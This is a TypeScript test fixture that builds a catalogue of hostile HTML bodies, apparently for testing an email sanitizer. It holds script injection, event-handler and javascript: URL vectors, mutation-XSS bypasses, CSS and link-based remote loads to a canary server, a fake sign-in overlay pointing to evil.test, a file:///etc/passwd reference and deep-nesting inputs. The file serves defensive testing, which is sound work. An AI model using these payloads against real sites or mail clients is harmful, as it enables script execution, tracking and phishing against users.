/**
 * HTML bodies that try to run something, to load something or to get out of where they are shown (OWASP's list,
 * mutation XSS, CSS, frames, forms), by what they try. `canary` is the base of a server that shall never hear of them, without a slash.
 */
export function hostileHtml(canary: string): [name: string, html: string][] {
  // One that ran would call for help in each way that a test can hear.
  const run = `(top.console.log('canary'),new Image().src='${canary}/ran',alert('canary'))`;
  const attribute = run.replaceAll("'", '&#39;');
  const encoded = Buffer.from(`<script>${run}</script>`).toString('base64');
  return [
    [
      'pictures',
      `<img src="${canary}/img" width=50 height=50><img src="${canary}/pixel" width=1 height=1><table background="${canary}/table"><tr><td style="background:url(${canary}/cell)">a</table>`,
    ],
    ['script', `<script>${run}</script>hi`],
    ['script elsewhere', `<SCRIPT SRC=${canary}/x.js></SCRIPT><script type=module src=${canary}/y.js></script>`],
    ['script in script', `<scr<script>ipt>${run}</scr</script>ipt>`],
    ['script, unclosed', `<<script>${run}//<</script`],
    ['script with a slash', `<script/x>${run}</script>`],
    ['onerror', `<img src=x onerror="${attribute}">`],
    ['onerror without space', `<img src="x"onerror="${attribute}"><img/src=x/onerror="${attribute}">`],
    ['onload', `<body onload="${attribute}"><svg onload="${attribute}"><iframe onload="${attribute}"></iframe>`],
    ['ontoggle', `<details open ontoggle="${attribute}"><summary>a</summary>b</details>`],
    ['onfocus', `<a href=# autofocus tabindex=1 onfocus="${attribute}">a</a><input autofocus onfocus="${attribute}">`],
    ['onbegin', `<svg><animate onbegin="${attribute}" attributeName=x dur=1s>`],
    [
      'onanimationstart',
      `<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart="${attribute}">a</b>`,
    ],
    [
      'media events',
      `<video src=x onerror="${attribute}"><source onerror="${attribute}"></video><audio src=x onerror="${attribute}">`,
    ],
    ['marquee', `<marquee onstart="${attribute}">a</marquee>`],
    ['javascript:', `<a href="javascript:${attribute}">a</a><a href=" &#106;ava&#115;cript:${attribute}">b</a>`],
    ['javascript: with a tab', `<a href="java\tscript:${attribute}">a</a><a href="java&#0;script:${attribute}">b</a>`],
    [
      'javascript: as a picture',
      `<img src="javascript:${attribute}"><table background="javascript:${attribute}"><tr><td>`,
    ],
    [
      'javascript: in frames',
      `<iframe src="javascript:${attribute}"></iframe><frameset><frame src="javascript:${attribute}"></frameset>`,
    ],
    [
      'javascript: in SVG',
      `<svg><a xlink:href="javascript:${attribute}"><text x=20 y=20>a</text></a><use href="data:image/svg+xml;base64,${encoded}#x"/></svg>`,
    ],
    [
      'data:text/html',
      `<a href="data:text/html;base64,${encoded}">a</a><iframe src="data:text/html;base64,${encoded}"></iframe><object data="data:text/html;base64,${encoded}"></object>`,
    ],
    [
      'svg as a picture',
      `<img src="data:image/svg+xml;base64,${Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="${attribute}"><image href="${canary}/svg"/></svg>`).toString('base64')}">`,
    ],
    ['svg and style', `<svg><style><img src=x onerror="${attribute}"></style></svg>`],
    ['svg, desc and noscript', `<svg><desc><noscript><img src=x onerror="${attribute}"></noscript></desc></svg>`],
    [
      'foreignObject',
      `<svg><foreignObject><iframe srcdoc="&lt;script&gt;${attribute}&lt;/script&gt;"></iframe></foreignObject></svg>`,
    ],
    [
      'mglyph',
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${attribute}&gt;">`,
    ],
    ['mglyph in a form', `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${attribute}">`],
    [
      'annotation-xml',
      `<math><annotation-xml encoding="text/html"><style><img src=x onerror="${attribute}"></style></annotation-xml></math>`,
    ],
    ['noscript', `<noscript><p title="</noscript><img src=x onerror=${attribute}>">`],
    [
      'noembed, noframes, xmp',
      `<noembed><p title="</noembed><img src=x onerror=${attribute}>"></noembed><xmp><p title="</xmp><img src=x onerror=${attribute}>">`,
    ],
    [
      'title and textarea',
      `<title><p title="</title><img src=x onerror=${attribute}>"></title><textarea><p title="</textarea><img src=x onerror=${attribute}>">`,
    ],
    [
      'template',
      `<template><img src=x onerror="${attribute}"><script>${run}</script></template><div><template shadowrootmode=open><img src=${canary}/shadow></template></div>`,
    ],
    [
      'select',
      `<select><template><style><!--</style><a rel="--></style></template></select><img id=x src=1 onerror=${attribute}>">`,
    ],
    [
      'comment',
      `<!--><img src=x onerror="${attribute}">--><!--[if gte IE 4]><script>${run}</script><![endif]--><![CDATA[<img src=x onerror=${attribute}>]]>`,
    ],
    ['processing instruction', `<?xml version="1.0"?><?php <img src=x onerror="${attribute}">?>`],
    [
      'XML data island',
      `<xml id=i><x><c><![CDATA[<img src=x onerror="${attribute}">]]></c></x></xml><span datasrc=#i datafld=c dataformatas=html></span>`,
    ],
    [
      'alt attribute that ends itself',
      `<img alt="&quot; onerror=${attribute} x=&quot;" src="x"><p lang="&quot;><img src=x onerror=${attribute}>">a</p>`,
    ],
    ['backquotes', `<img src=\`x\` onerror=\`${attribute}\`><a href=\`javascript:${attribute}\`>a</a>`],
    ['UTF-7', `+ADw-script+AD4-${run}+ADw-/script+AD4-`],
    [
      '@import',
      `<style>@import "${canary}/a.css";@import url(${canary}/b.css);</style><style>@font-face{font-family:x;src:url(${canary}/font)}p{font-family:x}</style><p>a</p>`,
    ],
    [
      'style elements',
      `<style>p{background:url(${canary}/style)}li{list-style:url(${canary}/list)}</style><p>a</p><ul><li>a</ul>`,
    ],
    [
      'link elements',
      `<link rel=stylesheet href=${canary}/x.css><link rel=preload as=image href=${canary}/preload><link rel=prefetch href=${canary}/prefetch><link rel=icon href=${canary}/icon><link rel=import href=${canary}/import><link rel=preconnect href=${canary}>`,
    ],
    [
      'expression',
      `<p style="width:expression(${attribute});behavior:url(${canary}/x.htc);-moz-binding:url(${canary}/x.xml#x)">a</p>`,
    ],
    [
      'style attributes',
      `<p style="background:url(${canary}/1)">a</p><p style="background:u\\72l(${canary}/2)">b</p><p style="list-style:url('${canary}/3');display:list-item">c</p><p style="background:image-set('${canary}/4' 1x)">d</p><p style="border-image:url(${canary}/5) 1;border:1px solid">e</p><p style="cursor:url(${canary}/6),auto;content:url(${canary}/7)">f</p><p style="--x:url(${canary}/8);background:var(--x)">g</p><p style="mask:url(${canary}/9);filter:url(${canary}/10#x)">h</p><p style="background:/**/url(${canary}/11)">i</p><p style="background:src('${canary}/12')">j</p>`,
    ],
    [
      'cover',
      '<div style="position:fixed;inset:0;z-index:9999;background:red"><a href="https://evil.test/">Sign in</a></div>',
    ],
    [
      'meta refresh',
      `<meta http-equiv=refresh content="0;url=${canary}/refresh"><meta http-equiv=refresh content="0;url=javascript:${attribute}">`,
    ],
    [
      'meta policy',
      `<meta http-equiv=Content-Security-Policy content="default-src *; script-src 'unsafe-inline'"><meta http-equiv=set-cookie content="a=b"><meta name=referrer content=unsafe-url>`,
    ],
    ['base', `<base href=${canary}/><img src=based><a href=x>a</a><base target=_top>`],
    [
      'form',
      `<form action=${canary}/form><input name=password value=a><button autofocus formaction="javascript:${attribute}">a</button><input type=image src=${canary}/input></form>`,
    ],
    [
      'isindex',
      `<isindex type=image src=${canary}/isindex action="javascript:${attribute}"><keygen autofocus onfocus="${attribute}">`,
    ],
    ['iframe srcdoc', `<iframe srcdoc="<script>${attribute}</script><img src=${canary}/srcdoc>"></iframe>`],
    [
      'iframe',
      `<iframe src=${canary}/iframe></iframe><frameset><frame src=${canary}/frame></frameset><portal src=${canary}/portal></portal><fencedframe></fencedframe>`,
    ],
    [
      'object and embed',
      `<object data=${canary}/object></object><embed src=${canary}/embed><applet code=x archive=${canary}/applet></applet><object type=text/html data="javascript:${attribute}"></object>`,
    ],
    [
      'media',
      `<video poster=${canary}/poster src=${canary}/video autoplay><source src=${canary}/source><track src=${canary}/track default></video><audio src=${canary}/audio autoplay></audio><bgsound src=${canary}/bgsound>`,
    ],
    [
      'SVG that loads',
      `<svg><image href=${canary}/image xlink:href=${canary}/image2 /><use href=${canary}/use#x /><feImage href=${canary}/fe /><script href=${canary}/svg.js /></svg>`,
    ],
    [
      'pictures in other ways',
      `<picture><source srcset="${canary}/a.webp"><img srcset="${canary}/b 1x, ${canary}/c 2x"></picture><img lowsrc=${canary}/low dynsrc=${canary}/dyn longdesc=${canary}/long><body background=${canary}/body><img src="//${canary.replace(/^https?:\/\//, '')}/d">`,
    ],
    [
      'cid: and odd schemes',
      `<img src="cid:nobody@x.test"><img src="file:///etc/passwd"><img src="blob:${canary}/x"><img src="filesystem:${canary}/x"><img src="view-source:${canary}/x">`,
    ],
    [
      'target=_top',
      `<a href=${canary}/top target=_top>a</a><a href=${canary}/parent target=_parent ping=${canary}/ping>b</a><area href=${canary}/area><map name=m><area shape=default href="javascript:${attribute}"></map><img usemap=#m src=x>`,
    ],
    [
      'names that clobber',
      '<img name=documentElement><form id=location></form><a id=top href=x></a><img id=body name=cookie><p data-remote-images=9 data-tracking-pixels=9 data-quoted=inside data-background=javascript:x>a</p>',
    ],
    [
      'end of the document',
      `</div></div></body></html><script>${run}</script><html onclick="${attribute}" data-remote-images=99><body onload="${attribute}">a`,
    ],
    ['plaintext', `<plaintext><img src=x onerror="${attribute}">`],
    ['depth', `${'<div>'.repeat(200_000)}a`],
    ['fonts within fonts', `${'<font><b><i><a href=x>'.repeat(300)}a`],
    ['tables within tables', `${'<table><tr><td>'.repeat(300)}a`],
    [
      'invitation to be quoted',
      `<p>a</p><div class=gmail_quote><img src=x onerror="${attribute}"><script>${run}</script></div><blockquote type=cite onclick="${attribute}">b</blockquote>`,
    ],
    [
      'importmap and speculation',
      `<script type=speculationrules>{"prefetch":[{"urls":["${canary}/rules"]}]}</script><script type=importmap>{"imports":{"a":"${canary}/map"}}</script>`,
    ],
    [
      'popover and invokers',
      `<button popovertarget=x commandfor=x command=show-popover autofocus>a</button><dialog id=x popover open ontoggle="${attribute}">b</dialog>`,
    ],
    ['contenteditable', `<p contenteditable autofocus onfocus="${attribute}" onblur="${attribute}" accesskey=x>a</p>`],
  ];
}
